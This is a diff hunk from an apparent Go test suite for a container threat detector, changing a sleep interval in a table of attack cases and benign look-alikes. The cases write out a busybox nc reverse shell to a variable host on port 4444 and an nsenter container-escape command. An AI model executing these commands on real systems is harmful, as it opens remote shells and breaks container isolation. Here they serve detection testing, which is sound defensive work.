@@ -63,7 +63,7 @@ func TestDeedsBecomeThreats(t *testing.T) {
 		name, in, deed, rule string
 		alike                []string // the same container kind, and nothing hostile
 	}{
-		{"reverse shell", web, "/bin/busybox nc " + at + " 4444 -e /bin/sh & sleep 1; kill $!", "shell-reverse",
+		{"reverse shell", web, "/bin/busybox nc " + at + " 4444 -e /bin/sh & sleep 5; kill $!", "shell-reverse",
 			[]string{"echo hello | /bin/busybox nc -w 1 " + at + " 4444", "echo id | sh", "sh -c 'id; true'"}},
 		{"nsenter", node, "/bin/busybox nsenter -t 1 -m /bin/busybox true; true", "escape-nsenter",
 			[]string{"sleep 5 & /bin/busybox nsenter -t $! -n true", "/bin/busybox nsenter --help"}},
